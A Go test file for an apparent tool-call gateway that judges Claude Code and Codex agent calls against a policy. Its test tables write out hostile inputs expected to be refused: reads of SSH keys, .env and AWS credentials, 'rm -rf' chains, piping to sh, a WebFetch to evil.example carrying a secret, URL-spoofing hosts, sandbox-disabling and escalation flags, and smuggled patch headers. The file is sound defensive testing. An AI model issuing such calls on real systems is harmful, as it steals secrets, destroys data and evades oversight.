package deploy_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/callgate/callgate/configs"
	"github.com/callgate/callgate/gateway"
	"github.com/callgate/callgate/internal/corpora"
	"github.com/callgate/callgate/internal/facetest"
	"github.com/callgate/callgate/ratelimit"
	"github.com/callgate/callgate/registry"
	"github.com/callgate/callgate/upstream"
)

// judgedCall is a call of a coding agent, and the code with which it is refused; empty: it passes.
type judgedCall struct{ tool, arguments, code string }

func TestCodingAgentsLoad(t *testing.T) {
	loads(t, absolute(t, "claude-code/callgate.yaml"))
	loads(t, absolute(t, "codex/callgate.yaml"))
}

// agentsKernel is the configuration of an agent, whose project is an empty folder, with a request that
// brings these tools.
func agentsKernel(t *testing.T, agent string, tools []registry.Brought) (admission *gateway.Admission, project string) {
	t.Helper()
	dir, project := copyTree(t, agent), t.TempDir()
	rewrite(t, filepath.Join(dir, "workspaces.yaml"), "/home/me/project", project)
	c, err := configs.Load(filepath.Join(dir, "callgate.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	k, err := gateway.New(&gateway.Config{
		Output: c.Output, Tools: c.Tools, Policy: c.Policy, Workspaces: c.Workspaces, Agents: c.Agents, Limits: &ratelimit.Limits{Replicas: 1},
		Defaults: gateway.Subject(c.Defaults), Digest: c.Digest,
	}, gateway.Deps{Limiter: ratelimit.NewLocal(time.Now), Journal: &facetest.Journal{}})
	if err != nil {
		t.Fatal(err)
	}
	a, err := k.Admit(context.Background(), gateway.Request{})
	if err != nil {
		t.Fatal(err)
	}
	var brought []registry.Brought
	for _, b := range tools {
		if e, known := c.Tools.Lookup(b.Name); !known {
			brought = append(brought, b)
		} else if !c.Tools.Agrees(e, b.InputSchema) {
			t.Errorf("%s: tools.yaml says something else than the agent", b.Name)
		}
	}
	a, leftOut, _, err := a.WithTools(brought)
	if err != nil || len(leftOut) > 0 {
		t.Fatal(err, leftOut)
	}
	return a, project
}

// requestTools are the tools with a schema in a recorded request.
func requestTools(t *testing.T, elements ...string) []registry.Brought {
	t.Helper()
	data, err := os.ReadFile(corpora.Testdata(append([]string{"agents"}, elements...)...))
	if err != nil {
		t.Fatal(err)
	}
	var request struct {
		Tools []struct {
			Name        string
			InputSchema json.RawMessage `json:"input_schema"`
			Parameters  json.RawMessage
		}
	}
	if err := json.Unmarshal(data, &request); err != nil {
		t.Fatal(err)
	}
	var all []registry.Brought
	for _, tool := range request.Tools {
		if tool.Name != "" && tool.InputSchema != nil {
			all = append(all, registry.Brought{Name: tool.Name, InputSchema: tool.InputSchema})
		}
		if tool.Name != "" && tool.Parameters != nil {
			all = append(all, registry.Brought{Name: tool.Name, InputSchema: tool.Parameters})
		}
	}
	return all
}

func judgeCalls(t *testing.T, a *gateway.Admission, list []judgedCall) {
	t.Helper()
	for _, c := range list {
		name, known := a.ToolName(c.tool)
		if !known {
			name = c.tool
		}
		d := a.Judge(context.Background(), gateway.ModeEnforce, gateway.Input{Native: &gateway.NativeCall{Name: name, Wire: c.tool, Arguments: []byte(c.arguments)}})
		code := ""
		if refused := d.Refusal(); refused != nil {
			code = string(refused.Code)
		}
		if d.Release(); code != c.code {
			t.Errorf("%s %s: found %q, expected %q: %v", c.tool, c.arguments, code, c.code, d.Refusal())
		}
	}
}

// argument writes arguments with one text.
func argument(name, value string) string {
	b, _ := json.Marshal(map[string]string{name: value})
	return string(b)
}

const (
	denied  = "permission_denied"
	outside = "boundary_violation"
)

func TestClaudeCodePolicy(t *testing.T) {
	a, project := agentsKernel(t, "claude-code", append(requestTools(t, "claude-code", "first.json"),
		registry.Brought{Name: "Glob", InputSchema: []byte(`{"type":"object","properties":{"pattern":{"type":"string"},"path":{"type":"string"}},"required":["pattern"]}`)},
		registry.Brought{Name: "mcp__github__get_issue", InputSchema: []byte(`{"type":"object","properties":{"n":{"type":"integer"}}}`)},
	))
	bash := func(command, code string) judgedCall { return judgedCall{"Bash", argument("command", command), code} }
	read := func(path, code string) judgedCall { return judgedCall{"Read", argument("file_path", path), code} }
	write := func(path, code string) judgedCall {
		b, _ := json.Marshal(map[string]string{"file_path": path, "content": "x"})
		return judgedCall{"Write", string(b), code}
	}
	judgeCalls(t, a, []judgedCall{
		read(project+"/main.go", ""), read("/usr/include/stdio.h", ""), read("/home/me/.ssh/id_ed25519", denied), read(project+"/.env", denied),
		read(project+"/.env.local", denied), read("/home/me/.AWS/credentials", denied), read(project+"/environment.go", ""),
		{"Glob", `{"pattern":"**/*.go"}`, ""}, {"Glob", `{"pattern":"*","sort":1}`, "unexpected_argument"},
		write(project+"/a/b.go", ""), write("/etc/passwd", outside), write(project+"/../x", outside), write(project+"/.git/hooks/pre-commit", denied),
		write(project+"/.claude/settings.json", denied), write(project+"/x/../.GIT/config", denied), write(project+"/.gitignore", ""), write(project+"/.mcp.json", denied),
		{"Edit", `{"file_path":"` + project + `/main.go","old_string":"a","new_string":"b","replace_all":true}`, ""},
		{"Edit", `{"file_path":"/home/me/.bashrc","old_string":"a","new_string":"b"}`, outside},
		{"Edit", `{"file_path":"` + project + `/main.go","old_string":"a"}`, "missing_argument"},
		{"NotebookEdit", `{"notebook_path":"` + project + `/a.ipynb","new_source":"x"}`, ""}, {"NotebookEdit", `{"notebook_path":"/a.ipynb","new_source":"x"}`, outside},
		bash("git status", ""), bash("git diff --stat HEAD~1", ""), bash("git log -n 5 --oneline -- main.go", denied), bash("git log -n 5 --oneline main.go", ""), bash("ls -la src", ""),
		bash("git diff --output=/etc/x", denied), bash("git push", denied), bash("git -c core.pager=x log", denied), bash("git status; rm -rf /", denied), bash("git status && ls", denied),
		bash("ls | sh", denied), bash("ls > x", denied), bash("cat $HOME/x", denied), bash("cat `x`", denied), bash("ls\nrm x", denied), bash("ls\n", denied), bash("cat 'a b'", denied),
		bash("cat /home/me/.ssh/id_rsa", denied), bash("cat .env", denied), bash("rm -rf .", denied), bash("go test ./...", denied), bash("", denied), bash(" ls", denied), bash("lsblk", denied),
		{"Bash", `{"command":"ls","dangerouslyDisableSandbox":true}`, denied}, {"Bash", `{"command":"ls","dangerouslyDisableSandbox":false,"timeout":5000}`, ""},
		{"TaskCreate", `{"subject":"a","description":"b","metadata":{"k":1}}`, ""}, {"TaskList", `{}`, ""}, {"Agent", `{"description":"a","prompt":"b"}`, ""},
		{"WebFetch", `{"url":"https://pkg.go.dev/fmt","prompt":"x"}`, ""}, {"WebFetch", `{"url":"https://evil.example/?q=secret","prompt":"x"}`, denied},
		{"WebFetch", `{"url":"https://pkg.go.dev@evil.example/","prompt":"x"}`, denied}, {"WebFetch", `{"url":"https://pkg.go.dev.evil.example/","prompt":"x"}`, denied},
		{"WebFetch", `{"url":"http://pkg.go.dev/fmt","prompt":"x"}`, denied},
		{"WebSearch", `{"query":"x"}`, denied}, {"CronCreate", `{"cron":"* * * * *","prompt":"x"}`, denied}, {"Workflow", `{"name":"x"}`, denied},
		{"mcp__github__get_issue", `{"n":1}`, denied}, {"mcp__github__delete", `{}`, "unknown_tool"},
	})
}

func TestCodexPolicy(t *testing.T) {
	tools := append(requestTools(t, "codex", "functions.json"),
		registry.Brought{Name: "apply_patch", InputSchema: []byte(`{"type":"object","required":["input"],"properties":{"input":{"type":"string"}}}`)},
		registry.Brought{Name: "update_plan", InputSchema: []byte(`{"type":"object","properties":{"plan":{"type":"array","items":{"type":"string"}}}}`)},
		registry.Brought{Name: "shell", InputSchema: []byte(`{"type":"object","required":["command"],"properties":{"command":{"type":"array","items":{"type":"string"}},"workdir":{"type":"string"},"with_escalated_permissions":{"type":"boolean"}}}`)},
	)
	a, project := agentsKernel(t, "codex", tools)
	command := func(cmd, code string) judgedCall { return judgedCall{"exec_command", argument("cmd", cmd), code} }
	patch := func(lines, code string) judgedCall {
		return judgedCall{"apply_patch", argument("input", "*** Begin Patch\n"+lines+"\n*** End Patch"), code}
	}
	judgeCalls(t, a, []judgedCall{
		command("git status", ""), command("rg -n main src", ""), command("cat notes.md", ""), command("sed -n 1,5p a", denied), command("cat a; rm b", denied), command("rg --pre sh x", denied),
		command("cat .env", denied), command("apply_patch <<EOF", denied), command("go test ./...", denied),
		{"exec_command", `{"cmd":"ls","workdir":"` + project + `/src"}`, ""}, {"exec_command", `{"cmd":"ls","workdir":"/etc"}`, outside},
		{"exec_command", `{"cmd":"ls","sandbox_permissions":"use_default","yield_time_ms":1000}`, ""}, {"exec_command", `{"cmd":"ls","sandbox_permissions":"require_escalated"}`, denied},
		{"exec_command", `{"cmd":"ls","shell":"/tmp/sh"}`, denied},
		{"shell", `{"command":["bash","-lc","git status"]}`, ""}, {"shell", `{"command":["bash","-lc","git status; rm x"]}`, denied}, {"shell", `{"command":["rm","x"]}`, denied},
		{"shell", `{"command":["bash","-lc","cat .env"]}`, denied}, {"shell", `{"command":["bash","-lc","ls"],"workdir":"/"}`, denied}, {"shell", `{"command":["bash","-lc","ls"],"with_escalated_permissions":true}`, denied},
		patch("*** Add File: src/a.go\n+package a", ""), patch("*** Update File: notes.md\n@@\n-a\n+see file: /etc/passwd", ""), patch("*** Add File: /etc/x\n+a", denied),
		patch("*** Add File: ~/x\n+a", denied), patch("*** Update File: a/../../x\n+a", denied), patch("*** Delete File: .git/config", denied), patch("*** Add File: sub/.codex/config.toml\n+a", denied),
		patch("*** Update File: a\n*** Move to: /etc/x\n", denied), patch("*** Add File: a\n+x\n  ***  ADD FILE :/x\n+a", denied), patch("*** Add File: C:\\x\n+a", denied),
		{"update_plan", `{"plan":["a"]}`, ""}, {"view_image", `{"path":"a.png"}`, ""}, {"get_goal", `{}`, ""}, {"write_stdin", `{"session_id":1,"chars":"rm -rf /\n"}`, denied},
	})
	// The API's own tool states one file.
	own, _ := agentsKernel(t, "codex", []registry.Brought{{Name: "apply_patch", InputSchema: []byte(`{"type":"object","required":["type","path"],"properties":{"type":{"type":"string"},"path":{"type":"string"},"diff":{"type":"string"}}}`)}})
	judgeCalls(t, own, []judgedCall{
		{"apply_patch", `{"type":"update_file","path":"src/a.go","diff":"x"}`, ""}, {"apply_patch", `{"type":"update_file","path":"/etc/x","diff":"x"}`, denied},
		{"apply_patch", `{"type":"delete_file","path":"../x"}`, denied}, {"apply_patch", `{"type":"create_file","path":".git/hooks/x","diff":"x"}`, denied}, {"exec_command", `{"cmd":"ls"}`, ""},
	})
}

// TestCodingAgentsUpstreams: each agent's face is served, its tools come with the requests, and
// nothing of the provider is allowed.
func TestCodingAgentsUpstreams(t *testing.T) {
	for agent, c := range map[string]struct {
		model string
		wire  upstream.Wire
	}{"claude-code": {"claude-fable-5-1", upstream.MessagesWire}, "codex": {"gpt-5.5", upstream.ResponsesWire}} {
		loaded, err := configs.Load(absolute(t, filepath.Join(agent, "callgate.yaml")))
		if err != nil {
			t.Fatal(err)
		}
		route, ok := loaded.Upstreams.Lookup(c.model)
		if !ok || !route.Speaks(c.wire) || route.Rules.Tools != upstream.FromRequest || len(route.Rules.Messages.ServerTools)+len(route.Rules.Responses.HostedTools) > 0 {
			t.Errorf("%s: found %+v", agent, route)
		}
	}
}
